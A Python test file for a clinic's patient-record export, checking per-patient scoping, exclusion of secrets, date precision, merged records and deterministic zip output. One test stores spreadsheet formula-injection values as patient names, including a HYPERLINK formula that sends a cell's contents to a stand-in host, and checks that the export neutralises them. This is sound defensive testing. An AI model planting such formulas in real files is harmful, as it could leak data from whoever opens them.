"""A record as tables: all of it and nobody else's, nothing that opens anything, and twice the same bytes."""

import io
import zipfile
from collections.abc import Iterator
from datetime import date
from itertools import chain

import pytest
from django.apps import apps
from pghistory.models import Event

from clinic.embedded.home import CHECKOUT
from clinic.lib.tables import Table, read_table
from clinic.outbox.models import LetterState
from clinic.staff.models import User
from patients.birth import Birth
from patients.importing import heads
from patients.models import AccessLink, Patient
from scheduling.exporting import scope
from scheduling.exporting.sheets import HANDED_OUT_BYTES, archive, zipped
from scheduling.exporting.tables import APPS, KEYS, LEFT_OUT, tables
from tests.clinic.world import World
from tests.patients.importing.making import saved
from tests.patients.making import NOW, person
from tests.scheduling.exporting.reading import files_in, tables_in, tables_of

FORMULAS = CHECKOUT / "tests" / "files" / "imports" / "patients_formula_names.csv"


def read_people(content: bytes) -> Table:
    return read_table(content, heads=heads.PERSON, needed=heads.NEEDED["people"])


@pytest.mark.django_db
def test_btx_070_names_that_run_come_in_go_out_quietly_and_come_back() -> None:
    """BTX-070: stored as they were in the file; no cell of ours runs, a phone is one; read back they are the same."""
    stated = read_people(FORMULAS.read_bytes())
    assert saved(FORMULAS.read_bytes()).counts["new"] == 4
    names = ['=HYPERLINK("https://example.invalid/?x="&A1,"Open")', "+SUM(1,1)", "-Devi", "@cmd"]
    assert [patient.given_name for patient in Patient.objects.order_by("source_key")] == names
    packed = b"".join(zipped(Patient.objects.all()))
    rows = tables_in(packed)["patient"]
    assert [row["given_name"] for row in rows] == [f"'{name}" for name in names]
    assert [row["phone"] for row in rows] == ["", "", "+919876500173", ""]
    again = read_people(files_in(packed)["patient.csv"].encode())
    kept = ("source_key", "given_name", "email", "language", "birth")
    assert [[record.cells[name] for name in kept] for record in again.records] == [
        [record.cells[name] for name in kept] for record in stated.records
    ]
    assert again.records[3].cells["note_for_desk"] == "=1+1"


@pytest.mark.django_db
def test_btx_070_a_spreadsheet_is_told_that_gujarati_is_utf_8() -> None:
    person("મીનાબેન", "ત્રિવેદી")
    assert "\ufeffpublic_id,record_number,".encode() in _unpacked(Patient.objects.get())
    assert tables_of(Patient.objects.get())["patient"][0]["given_name"] == "મીનાબેન"


@pytest.mark.django_db
def test_btx_041_one_name_goes_out_as_it_is() -> None:
    patient = person("Lakshmi", "")
    (row,) = tables_of(patient)["patient"]
    assert (row["given_name"], row["family_name"]) == ("Lakshmi", "")
    assert [head for head, text in row.items() if text == "None"] == []


@pytest.mark.django_db
def test_btx_079_a_date_is_no_more_exact_than_it_is_known() -> None:
    for name, birth in {
        "Savitri": Birth(date(1951, 1, 1), "year"), "Bela": Birth(date(1951, 6, 1), "month"),
        "Asha": Birth(date(1970, 1, 31), "day"), "Nila": Birth(None, "unknown"),
    }.items():  # fmt: skip
        person(name, birth=birth)
    rows = tables_in(b"".join(zipped(Patient.objects.all())))["patient"]
    assert [row["born_on"] for row in rows] == ["1951", "1951-06", "1970-01-31", ""]


def test_everything_of_a_patient_and_nobody_elses(the: World) -> None:
    found = tables_of(the.here.treated)
    assert {row["given_name"] for row in found["patient"]} == {"Treated Here"}
    assert {row["patient"] for rows in found.values() for row in rows if "patient" in row} == {
        str(the.here.treated.record_number)
    }
    assert {"injection_session", "session_site", "draw", "score", "follow_up", "call", "event_entry"} <= set(found)
    assert [row["vial_lot_number"] for row in found["draw"]] == ["LHere"]
    assert [row["injected_at"][-6:] for row in found["injection_session"] if row["signed_at"]] == ["+05:30"]
    assert "There" not in "".join(files_in(b"".join(zipped(scope.one(the.here.treated)))).values())


def test_every_row_of_every_table_leads_to_a_patient(the: World) -> None:
    """Of a table whose rows all have a patient none is lost: counted against the table itself."""
    found = tables_in(b"".join(zipped(Patient.objects.all())))
    sure = [table for table in tables() if len(table.paths) == 1 and table.name != "draw"]
    assert {table.name: len(found.get(table.name, [])) for table in sure} == {
        table.name: table.model._default_manager.count()  # noqa: SLF001 - Django's documented meta API
        for table in sure
    }
    assert len(found["draw"]) == sum(1 for row in found["draw"] if row["session"])


def test_no_table_about_people_is_forgotten() -> None:
    """A table that holds how to reach somebody, or names a patient by id, is exported or stays inside for a reason."""
    about = {"given_name", "email", "phone", "patient_public_id", "person_public_id", "patient"}
    every = [model for label in APPS for model in apps.get_app_config(label).get_models()]
    held = {
        model
        for model in every
        if not issubclass(model, Event) and about & {field.name for field in model._meta.concrete_fields}  # noqa: SLF001
    }
    inside = {model for model in every if model._meta.label_lower in LEFT_OUT}  # noqa: SLF001
    assert held - {table.model for table in tables()} - inside == set()
    assert len(inside) == len(LEFT_OUT)


def test_nothing_that_opens_anything_leaves(the: World) -> None:
    heads = {column.head for table in tables() for column in table.columns}
    assert [head for head in heads if any(key in head for key in KEYS)] == []
    text = "".join(files_in(b"".join(zipped(Patient.objects.all()))).values())
    hashes = AccessLink.objects.values_list("token_hash", flat=True)
    secrets = [*the.here.tokens.values(), *hashes, *User.objects.values_list("password", flat=True)]
    assert [secret for secret in secrets if secret and secret in text] == []


def test_two_exports_of_a_record_are_the_same_bytes(the: World) -> None:
    assert b"".join(zipped(scope.one(the.here.treated))) == b"".join(zipped(scope.one(the.here.treated)))


def test_a_letter_that_went_out_is_in_with_its_words_and_one_that_waits_is_not(the: World) -> None:
    assert "letter" not in tables_of(the.here.patient)
    letter = the.here.letter
    type(letter).objects.filter(pk=letter.pk).update(
        state=LetterState.SENT, sent_at=NOW, handing_over_at=NOW, ended_at=NOW, subject_sent="Your visit"
    )
    (sent,) = tables_of(the.here.patient)["letter"]
    assert (sent["letter"], sent["subject_sent"], sent["patient"]) == (
        letter.letter, "Your visit", str(the.here.patient.record_number),
    )  # fmt: skip


def test_a_merged_record_goes_along_with_the_one_that_goes_on(the: World) -> None:
    older, oldest = person("Meenal", "Trivedi", at=the.here.location), person("Minal", at=the.here.location)
    Patient.objects.filter(pk=older.pk).update(merged_into=the.here.treated)
    Patient.objects.filter(pk=oldest.pk).update(merged_into=older)
    rows = tables_of(the.here.treated)["patient"]
    assert {row["given_name"]: row["merged_into"] for row in rows} == {
        "Treated Here": "", "Meenal": str(the.here.treated.record_number), "Minal": str(older.record_number),
    }  # fmt: skip


def test_a_zip_is_handed_out_while_it_is_made() -> None:
    read: list[int] = []

    def lines() -> Iterator[str]:
        for number in range(40_000):
            read.append(number)
            yield f"{number * 7919 % 40_009},{number * 104_729 % 99_991}\r\n"

    pieces = archive(chain([("numbers.csv", lines()), ("nothing.csv", iter(()))]))
    first = next(pieces)
    assert len(first) < 2 * HANDED_OUT_BYTES
    assert len(read) < 40_000
    packed = first + b"".join(pieces)
    assert list(files_in(packed)) == ["numbers.csv"]
    assert len(read) == 40_000


def _unpacked(patient: Patient) -> bytes:
    return zipfile.ZipFile(io.BytesIO(b"".join(zipped(scope.one(patient))))).read("patient.csv")
